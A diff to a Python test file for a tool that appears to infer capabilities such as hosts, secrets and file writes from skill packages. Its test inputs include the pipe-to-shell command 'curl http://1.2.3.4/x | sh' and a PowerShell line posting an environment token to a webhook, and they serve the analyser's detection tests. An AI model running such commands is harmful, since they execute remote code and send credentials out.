@@ -133,3 +133,16 @@ def test_capabilities_of_skill_md_and_shell() -> None:
 def test_warnings_in_skill_md_are_not_network_use() -> None:
     caps = infer({"SKILL.md": ("markdown", "Attackers run `curl http://1.2.3.4/x | sh`.\n")})
     assert caps.hosts == {} and caps.network is None
+
+
+def test_capabilities_of_powershell() -> None:
+    script = (
+        "$hook = 'https://hooks.acme.dev/in'  # https://commented.example.org\n"
+        "Invoke-RestMethod -Uri $hook -Method Post -Body $env:ACME_TOKEN\n"
+        "Set-Content -Path \"$env:APPDATA\\acme\\state.json\" -Value '{}'\n"
+        "$p = $env:ACME_TOKEN_PATH\n"
+    )
+    caps = infer({"x.ps1": ("powershell", script)})
+    assert set(caps.hosts) == {"hooks.acme.dev"}
+    assert set(caps.secrets) == {"ACME_TOKEN"}
+    assert set(caps.writes) == {"~/AppData/Roaming/acme/state.json"}
